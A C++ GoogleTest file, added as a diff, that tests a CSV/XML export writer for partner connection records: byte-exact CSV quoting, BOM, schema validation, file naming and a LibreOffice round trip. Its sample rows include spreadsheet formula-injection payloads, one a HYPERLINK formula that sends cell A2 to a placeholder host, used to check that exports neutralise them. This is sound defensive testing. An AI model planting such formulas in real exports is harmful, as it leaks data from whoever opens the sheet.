@@ -1,0 +1,300 @@
+// Tests of outbox/export_writer.cpp (SPEC.md §5.2; FIELD-CASES F29 BOM, F30 separator, F31 formula
+// injection, F32 SIRET and leading zeros): the exact bytes of the CSV export (BOM, header line, CRLF,
+// RFC 4180 quoting of a raison sociale holding ';', '"' and a newline), the XML export validated against
+// samples/xsd/export.xsd with xmllint, the file name, and — when LibreOffice is installed — the cells
+// LibreOffice reads back from a sample export.
+#include "outbox/export_writer.hpp"
+
+#include <gtest/gtest.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
+#include <iterator>
+#include <sstream>
+#include <string>
+#include <vector>
+
+namespace raccord::outbox {
+namespace {
+
+namespace fs = std::filesystem;
+
+const fs::path kXsd = fs::path(RACCORD_SOURCE_DIR) / "samples" / "xsd" / "export.xsd";
+
+Instant at(std::string_view iso) {
+  return parse_iso_instant(iso).value();
+}
+
+CivilDate day(std::string_view iso) {
+  return parse_iso_date(iso).value();
+}
+
+SearchRow edi(std::string siret, std::string raison, std::string protocol, std::string code, std::string interface,
+              std::string from, std::string to, SheetState state) {
+  SearchRow r;
+  r.partner_siret = std::move(siret);
+  r.raison_sociale = std::move(raison);
+  r.protocol = std::move(protocol);
+  r.code_appli = std::move(code);
+  r.interface_code = std::move(interface);
+  r.period_from = day(from);
+  if (!to.empty()) r.period_to = day(to);
+  r.state = state;
+  return r;
+}
+
+/// The sample rows: accents (F29), a SIRET with leading zeros (F32), a raison sociale with ';', '"' and a
+/// newline (RFC 4180), one starting with '=' (F31), an open-ended period.
+std::vector<SearchRow> sample_rows() {
+  return {
+      edi("00123456600006", "Société Générale d'Exemple", "SFTP", "VFE001", "FSO1100A", "2026-12-01", "2099-06-30",
+          SheetState::Activee),
+      edi("12345678200010", "ACME; \"Logistique\"\nSAS", "AS2", "VFE002", "FSO1101A", "2026-01-05", "",
+          SheetState::EnvoyeeMaj),
+      edi("35600000000048", "=HYPERLINK(\"http://exemple.invalid/?d=\"&A2;\"Cliquer\")", "PESIT", "VFE003",
+          "FSO1102A", "2026-02-28", "2026-12-31", SheetState::Desactivee),
+      edi("81034732800017", "@SUM(1+1) Équipe réseau", "SFTP", "VFE004", "FSO1105A", "2027-03-01", "",
+          SheetState::Brouillon),
+  };
+}
+
+std::string export_of(const std::vector<SearchRow>& rows, SheetKind kind, ExportFormat format,
+                      std::string_view reference = "req-7") {
+  std::ostringstream out;
+  ExportWriter writer(out, kind, format, reference, at("2026-11-29T22:10:04Z"));
+  for (const auto& r : rows) writer.row(r);
+  writer.finish();
+  EXPECT_EQ(writer.rows(), rows.size());
+  return out.str();
+}
+
+/// RFC 4180 reader for the tests (';', '"', CRLF records; a lone LF inside quotes is data).
+std::vector<std::vector<std::string>> parse_csv(std::string_view text) {
+  std::vector<std::vector<std::string>> rows;
+  std::vector<std::string> row;
+  std::string cell;
+  bool quoted = false;
+  for (std::size_t i = 0; i < text.size(); ++i) {
+    const char c = text[i];
+    if (quoted) {
+      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
+        cell += '"';
+        ++i;
+      } else if (c == '"') {
+        quoted = false;
+      } else {
+        cell += c;
+      }
+    } else if (c == '"') {
+      quoted = true;
+    } else if (c == ';') {
+      row.push_back(std::move(cell));
+      cell.clear();
+    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
+      row.push_back(std::move(cell));
+      cell.clear();
+      rows.push_back(std::move(row));
+      row.clear();
+      ++i;
+    } else {
+      cell += c;
+    }
+  }
+  EXPECT_FALSE(quoted) << "unterminated quote";
+  EXPECT_TRUE(cell.empty() && row.empty()) << "last record without CRLF";
+  return rows;
+}
+
+std::string read_file(const fs::path& p) {
+  std::ifstream in(p, std::ios::binary);
+  return std::string(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
+}
+
+class TempDir {
+ public:
+  TempDir() {
+    std::string pattern = (fs::temp_directory_path() / "raccord-export-XXXXXX").string();
+    if (::mkdtemp(pattern.data()) == nullptr) ADD_FAILURE() << "mkdtemp";
+    path_ = pattern;
+  }
+  ~TempDir() {
+    std::error_code ec;
+    fs::remove_all(path_, ec);
+  }
+  const fs::path& path() const { return path_; }
+
+ private:
+  fs::path path_;
+};
+
+std::string quote(const std::string& s) {
+  std::string q = "'";
+  for (char c : s) q += c == '\'' ? std::string("'\\''") : std::string(1, c);
+  return q + "'";
+}
+
+TEST(ExportWriterTest, CsvHeaderLinesAreExactlyTheGuides) {
+  EXPECT_EQ(export_csv_header(SheetKind::Edi),
+            "Partenaire;Protocole de raccordement;Code Appli partenaire;Code interface;Date de début;Date de fin;"
+            "Etat courant");
+  EXPECT_EQ(export_csv_header(SheetKind::Api), "Partenaire;Code Appli partenaire;Etat courant");
+  // An empty export is the BOM and the header line only, ended by CRLF; no "sep=" line (F29).
+  EXPECT_EQ(export_of({}, SheetKind::Edi, ExportFormat::Csv),
+            "\xEF\xBB\xBF"
+            "Partenaire;Protocole de raccordement;Code Appli partenaire;Code interface;Date de d\xC3\xA9" "but;"
+            "Date de fin;Etat courant\r\n");
+  EXPECT_EQ(export_of({}, SheetKind::Api, ExportFormat::Csv),
+            "\xEF\xBB\xBFPartenaire;Code Appli partenaire;Etat courant\r\n");
+}
+
+TEST(ExportWriterTest, CsvBytesOfTheSampleRows) {
+  const std::string csv = export_of(sample_rows(), SheetKind::Edi, ExportFormat::Csv);
+  EXPECT_EQ(csv,
+            "\xEF\xBB\xBF"
+            "Partenaire;Protocole de raccordement;Code Appli partenaire;Code interface;Date de début;Date de fin;"
+            "Etat courant\r\n"
+            "00123456600006 - Société Générale d'Exemple;SFTP;VFE001;FSO1100A;01/12/2026;30/06/2099;Activée\r\n"
+            "\"12345678200010 - ACME; \"\"Logistique\"\"\nSAS\";AS2;VFE002;FSO1101A;05/01/2026;;Envoyée MAJ\r\n"
+            "\"35600000000048 - =HYPERLINK(\"\"http://exemple.invalid/?d=\"\"&A2;\"\"Cliquer\"\")\";PESIT;VFE003;"
+            "FSO1102A;28/02/2026;31/12/2026;Désactivée\r\n"
+            "81034732800017 - @SUM(1+1) Équipe réseau;SFTP;VFE004;FSO1105A;01/03/2027;;Brouillon\r\n");
+  EXPECT_EQ(csv.find("sep="), std::string::npos);
+  EXPECT_EQ(csv.find("=\"0"), std::string::npos);  // no ="…" wrapping of digits (SPEC §5.2 wins over F32)
+}
+
+TEST(ExportWriterTest, CsvCellsReadBackExactlyWithLeadingZerosAndNoFormulaTrigger) {
+  const auto rows = sample_rows();
+  const std::string csv = export_of(rows, SheetKind::Edi, ExportFormat::Csv);
+  ASSERT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
+  const auto cells = parse_csv(std::string_view(csv).substr(3));
+  ASSERT_EQ(cells.size(), rows.size() + 1);
+  EXPECT_EQ(cells[0].size(), 7U);
+  for (std::size_t i = 0; i < rows.size(); ++i) {
+    const auto& c = cells[i + 1];
+    ASSERT_EQ(c.size(), 7U) << i;
+    EXPECT_EQ(c[0], rows[i].partner_siret + " - " + rows[i].raison_sociale);  // SIRET digits kept, as text
+    EXPECT_EQ(c[1], rows[i].protocol);
+    EXPECT_EQ(c[2], rows[i].code_appli);
+    EXPECT_EQ(c[3], rows[i].interface_code);
+    EXPECT_EQ(c[6], to_label(rows[i].state));
+  }
+  EXPECT_EQ(cells[1][0].substr(0, 14), "00123456600006");
+  EXPECT_EQ(cells[2][5], "");  // open-ended period: Date de fin empty
+  // F31: no cell of the file starts with a formula trigger.
+  for (const auto& row : cells) {
+    for (const auto& cell : row) {
+      if (cell.empty()) continue;
+      EXPECT_EQ(std::string("=+-@\t\r\n").find(cell.front()), std::string::npos) << cell;
+    }
+  }
+}
+
+TEST(ExportWriterTest, CsvApiRows) {
+  SearchRow r;
+  r.partner_siret = "00123456600006";
+  r.raison_sociale = "Zéro; \"API\"";
+  r.code_appli = "VFE010";
+  r.state = SheetState::Envoyee;
+  EXPECT_EQ(export_of({r}, SheetKind::Api, ExportFormat::Csv),
+            "\xEF\xBB\xBFPartenaire;Code Appli partenaire;Etat courant\r\n"
+            "\"00123456600006 - Zéro; \"\"API\"\"\";VFE010;Envoyée\r\n");
+}
+
+TEST(ExportWriterTest, XmlExportHoldsTheSameRowsAndValidatesAgainstTheSchema) {
+  if (std::system("command -v xmllint >/dev/null 2>&1") != 0) GTEST_SKIP() << "xmllint absent";
+  auto rows = sample_rows();
+  rows[1].raison_sociale += " <&> \x01 fin";  // markup characters escaped, a control character made visible
+  TempDir tmp;
+  for (const SheetKind kind : {SheetKind::Edi, SheetKind::Api}) {
+    for (const bool empty : {false, true}) {
+      const std::string xml = export_of(empty ? std::vector<SearchRow>{} : rows, kind, ExportFormat::Xml, "req \"7\" & <b>");
+      const fs::path file = tmp.path() / (std::string(to_code(kind)) + (empty ? "_vide" : "") + ".xml");
+      std::ofstream(file, std::ios::binary) << xml;
+      const std::string cmd = "xmllint --noout --schema " + quote(kXsd.string()) + " " + quote(file.string()) +
+                              " >" + quote((tmp.path() / "log").string()) + " 2>&1";
+      EXPECT_EQ(std::system(cmd.c_str()), 0) << xml << read_file(tmp.path() / "log");
+    }
+  }
+  const std::string xml = export_of(rows, SheetKind::Edi, ExportFormat::Xml);
+  EXPECT_NE(xml.find("<Ligne partenaire=\"00123456600006\" raisonSociale=\"Société Générale d'Exemple\" "
+                     "protocole=\"SFTP\" codeAppli=\"VFE001\" codeInterface=\"FSO1100A\" debut=\"2026-12-01\" "
+                     "fin=\"2099-06-30\" etat=\"ACTIVEE\" libelleEtat=\"Activée\"/>"),
+            std::string::npos)
+      << xml;
+  EXPECT_NE(xml.find("codeAppli=\"VFE002\" codeInterface=\"FSO1101A\" debut=\"2026-01-05\" etat=\"ENVOYEE_MAJ\""),
+            std::string::npos)
+      << xml;  // open-ended: no fin
+  EXPECT_NE(xml.find("&lt;&amp;&gt;"), std::string::npos);
+  EXPECT_EQ(xml.find('\x01'), std::string::npos);
+}
+
+TEST(ExportWriterTest, BaseNameFollowsSpec) {
+  const Instant t = at("2026-11-29T22:10:04Z");
+  EXPECT_EQ(export_base_name(SheetKind::Edi, "req-7", t), "EXPORT_EDI_req-7_20261129T221004Z");
+  EXPECT_EQ(export_base_name(SheetKind::Api, "", t), "EXPORT_API_recherche_20261129T221004Z");
+  EXPECT_EQ(export_base_name(SheetKind::Edi, "../a b", t), "EXPORT_EDI____a_b_20261129T221004Z");
+  EXPECT_EQ(export_base_name(SheetKind::Edi, std::string(100, 'x'), t),
+            "EXPORT_EDI_" + std::string(64, 'x') + "_20261129T221004Z");
+}
+
+// Issue 5 "Done when": opening a sample export in LibreOffice gives the same cells, accents intact and
+// the SIRET never in scientific notation. Skipped when LibreOffice is not installed (it is not installed
+// for the tests; see docs).
+TEST(ExportWriterTest, LibreOfficeReadsTheSameCells) {
+  std::string soffice;
+  for (const char* candidate : {"/usr/bin/soffice", "/usr/bin/libreoffice"}) {
+    if (fs::exists(candidate)) {
+      soffice = candidate;
+      break;
+    }
+  }
+  if (soffice.empty()) GTEST_SKIP() << "LibreOffice absent (/usr/bin/soffice, /usr/bin/libreoffice)";
+  TempDir tmp;
+  const auto rows = sample_rows();
+  fs::create_directories(tmp.path() / "in");
+  fs::create_directories(tmp.path() / "out");
+  const fs::path input = tmp.path() / "in" / "export.csv";
+  std::ofstream(input, std::ios::binary) << export_of(rows, SheetKind::Edi, ExportFormat::Csv);
+  // Import as French Excel would see it (';', '"', UTF-8, fr-FR, standard type detection), export again
+  // as UTF-8 CSV with ';' and '"'.
+  const std::string cmd =
+      "cd " + quote(tmp.path().string()) + " && HOME=" + quote(tmp.path().string()) + " " + quote(soffice) +
+      " --headless --norestore --infilter=" + quote("CSV:59,34,76,1,,1036") +
+      " --convert-to " + quote("csv:Text - txt - csv (StarCalc):59,34,76,1") + " --outdir " +
+      quote((tmp.path() / "out").string()) + " " + quote(input.string()) + " >" + quote((tmp.path() / "log").string()) +
+      " 2>&1";
+  ASSERT_EQ(std::system(cmd.c_str()), 0) << read_file(tmp.path() / "log");
+  std::string back = read_file(tmp.path() / "out" / "export.csv");
+  if (back.substr(0, 3) == "\xEF\xBB\xBF") back.erase(0, 3);
+  // LibreOffice ends lines with LF: normalise outside quotes is not needed for the comparison below.
+  std::string crlf;
+  for (std::size_t i = 0; i < back.size(); ++i) {
+    if (back[i] == '\n' && (i == 0 || back[i - 1] != '\r')) crlf += '\r';
+    crlf += back[i];
+  }
+  const auto cells = parse_csv(crlf);
+  ASSERT_GE(cells.size(), rows.size() + 1) << back;
+  EXPECT_EQ(cells[0][4], "Date de début");
+  for (std::size_t i = 0; i < rows.size(); ++i) {
+    const auto& c = cells[i + 1];
+    ASSERT_GE(c.size(), 7U) << back;
+    // Text cells identical (accents intact; the SIRET as its digits, never 1,23E+13).
+    std::string partner = rows[i].partner_siret + " - " + rows[i].raison_sociale;
+    std::string got = c[0];
+    got.erase(std::remove(got.begin(), got.end(), '\r'), got.end());
+    EXPECT_EQ(got, partner) << back;
+    EXPECT_EQ(c[0].find("E+"), std::string::npos);
+    EXPECT_EQ(c[1], rows[i].protocol);
+    EXPECT_EQ(c[2], rows[i].code_appli);
+    EXPECT_EQ(c[3], rows[i].interface_code);
+    EXPECT_EQ(c[6], to_label(rows[i].state));
+    // Dates read as fr-FR dates: day and month in that order.
+    EXPECT_EQ(c[4].substr(0, 5), format_french_date(*rows[i].period_from).substr(0, 5)) << c[4];
+  }
+}
+
+}  // namespace
+}  // namespace raccord::outbox
